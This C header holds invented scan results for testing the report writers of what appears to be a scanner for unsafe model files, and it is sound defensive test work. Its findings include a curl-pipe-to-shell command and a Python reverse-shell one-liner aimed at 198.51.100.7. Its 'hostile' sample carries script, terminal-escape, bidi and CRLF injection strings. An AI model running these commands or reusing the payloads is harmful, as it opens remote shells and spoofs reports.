/* report_samples.h - invented scan results for the tests of the report writers: one of each kind a person meets, and
 * one whose every text is hostile. */
#ifndef GH_TEST_REPORT_SAMPLES_H
#define GH_TEST_REPORT_SAMPLES_H
#include "scan/report.h"

#define SUM_A "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
#define SUM_B "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752"
#define LEN(a) (sizeof(a) / sizeof((a)[0]))

static const struct gh_rule r_call = {
	"GH-TST-0001",
	GH_CRITICAL,
	GH_UNSAFE,
	"Calls code outside the allow list",
	"Whoever made the file runs commands on your machine, with your rights, in the moment the file is loaded.",
	"Do not load it. Ask the publisher for a safetensors version, and report the file where you got it.",
	"CWE-502 CVE-2025-32434 AML.T0011"
};
static const struct gh_rule r_name = { "GH-TST-0002",
				       GH_MEDIUM,
				       GH_REVIEW,
				       "Name and content disagree",
				       "A file that looks harmless by its name is opened by a loader that runs code.",
				       "Rename it to what it is, or find out why it was renamed.",
				       "CWE-434" };
static const struct gh_rule r_locked = { "GH-TST-0003",
					 GH_HIGH,
					 GH_INCOMPLETE,
					 "A member is encrypted",
					 "What cannot be read can hold anything.",
					 "Unpack it with its password and scan the result.",
					 "" };
static const struct gh_rule r_note = {
	"GH-TST-0004", GH_INFO, GH_CLEAN, "Producer named in the metadata", "Nothing by itself.", "Nothing to do.", ""
};
static const struct gh_rule r_bare = { "GH-TST-0005", GH_LOW, GH_REVIEW, "A row without words", NULL, NULL, NULL };

static const struct gh_finding f_note[] = {
	{ &r_note, "producer: pytorch 2.1", "", 8, 20, true, 1 },
};
static const struct gh_finding f_unsafe[] = {
	{ &r_call, "os.system('curl http://198.51.100.7/x | sh'): runs a command of the operating system",
	  "archive/data.pkl", 24, 57, true, 1 },
	{ &r_call,
	  "builtins.exec('import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
	  "s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0)'): runs Python code from a string",
	  "archive/data.pkl", 310, 188, true, 3 },
	{ &r_locked, "method 0, flag bit 0 set", "archive/data/7", 0, 0, false, 1 },
	{ &r_name, "content is a zip archive, the name says .safetensors", "", 0, 4, true, 1 },
	{ &r_note, "producer: pytorch 2.1", "archive/version", 0, 2, true, 1 },
};
static const struct gh_finding f_locked[] = { { &r_locked, "AES-256, 4 members", "secret.pkl", 0, 0, false, 4 } };
static const struct gh_finding f_name[] = { { &r_name, "content is a pickle, the name says .json", "", 0, 2, true,
					      1 } };
static const struct gh_finding f_bare[] = { { &r_bare, NULL, NULL, 0, 0, false, 1 } };

/* Detail and member are made safe before they enter a report; these were not, and the writers must hold all the same.
 */
static const struct gh_finding f_hostile[] = {
	{ &r_call,
	  "</script><script>alert(1)</script> \033[2J\033[1;1H [click](http://198.51.100.7) \xe2\x80\xae"
	  "dluoc\xff & 'q' \"d\"",
	  "a\r\nFAKE: CLEAN\r\nb > <img src=x onerror=alert(1)>", UINT64_MAX, UINT64_MAX, true, UINT32_MAX },
};

static const struct gh_file_report files_clean[] = {
	{ "models/tiny.safetensors", "safetensors", SUM_A, 548105171, 548105171, 0, 0, GH_CLEAN, f_note, 1, 0 },
};
static const struct gh_file_report files_unsafe[] = {
	{ "downloads/model.safetensors", "pytorch-zip", SUM_B, 1203344, 1203344, 9, 1201920, GH_UNSAFE, f_unsafe,
	  LEN(f_unsafe), 0 },
};
static const struct gh_file_report files_incomplete[] = {
	{ "bundle.zip", "zip", SUM_A, 90211, 1024, 4, 0, GH_INCOMPLETE, f_locked, 1, 12 },
};
static const struct gh_file_report files_unread[] = {
	{ "gone.pt", "unknown", "", 0, 0, 0, 0, GH_INCOMPLETE, NULL, 0, 0 },
};
static const struct gh_file_report files_many[] = {
	{ "hub/a/bundle.zip", "zip", SUM_A, 90211, 1024, 4, 0, GH_INCOMPLETE, f_locked, 1, 12 },
	{ "hub/a/config.json", "pickle", SUM_A, 40, 40, 0, 0, GH_REVIEW, f_name, 1, 0 },
	{ "hub/a/model.safetensors", "safetensors", SUM_A, 548105171, 548105171, 0, 0, GH_CLEAN, f_note, 1, 0 },
	{ "hub/b/model.pt", "pytorch-zip", SUM_B, 1203344, 1203344, 9, 1201920, GH_UNSAFE, f_unsafe, LEN(f_unsafe), 0 },
	{ "hub/b/other.pt", "pytorch-zip", SUM_B, 1203344, 1203344, 9, 1201920, GH_UNSAFE, f_unsafe, 1, 0 },
	{ "hub/b/tokenizer.json", "json", SUM_A, 1842767, 1842767, 0, 0, GH_CLEAN, NULL, 0, 0 },
	{ "hub/c/odd.bin", "gguf", SUM_A, 77, 70, 0, 0, GH_REVIEW, f_bare, 1, 0 },
};
static const struct gh_file_report files_hostile[] = {
	{ "dir\\\033]0;owned\007/<b>\xff\xfe&\xe2\x80\xae"
	  "gpj.exe",
	  "zip", SUM_A, UINT64_MAX, UINT64_MAX, UINT64_MAX, UINT64_MAX, GH_UNSAFE, f_hostile, 1, UINT64_MAX },
	{ "dir\xc2\x9b"
	  "31m/CLEAN",
	  "unknown", "", 7, 0, 0, 0, GH_INCOMPLETE, f_locked, 1, 0 },
};

/* All that ran, one that could not look at everything, one that was not asked for. */
#define STAGES \
	{ \
		[GH_STAGE_INTEGRITY] = { GH_STAGE_RUN, 3, 548105171, NULL, NULL }, \
		[GH_STAGE_TENSORS] = { GH_STAGE_INCOMPLETE, 290, 1, "1 of 3 files not looked at in full: <b>", NULL }, \
		[GH_STAGE_MALWARE] = { GH_STAGE_RUN, 12, 900, NULL, "64 YARA rules" }, \
		[GH_STAGE_DETONATION] = { GH_STAGE_NOT_RUN, 0, 0, "not asked for (--detonate)", NULL }, \
	}
#define REPORT(of, v, files, n, size) \
	{ .target = (of), \
	  .verdict = (v), \
	  .file = (files), \
	  .nfile = (n), \
	  .bytes = (size), \
	  .scanner = "0.1.0", \
	  .rules = "2026-11-01 5f1b1c02", \
	  .stage = STAGES }
#define SAMPLE(name, verdict, files, bytes) { name, REPORT("target", verdict, files, LEN(files), bytes) }
static const struct sample {
	const char *name;
	struct gh_scan_report r;
} samples[] = {
	SAMPLE("clean", GH_CLEAN, files_clean, 548105171),
	SAMPLE("unsafe", GH_UNSAFE, files_unsafe, 1203344),
	SAMPLE("incomplete", GH_INCOMPLETE, files_incomplete, 90211),
	SAMPLE("unread", GH_INCOMPLETE, files_unread, 0),
	SAMPLE("many", GH_UNSAFE, files_many, 551345000),
	SAMPLE("hostile", GH_UNSAFE, files_hostile, UINT64_MAX),
	{ "empty", REPORT("target\xff", GH_INCOMPLETE, NULL, 0, 0) },
};
#endif
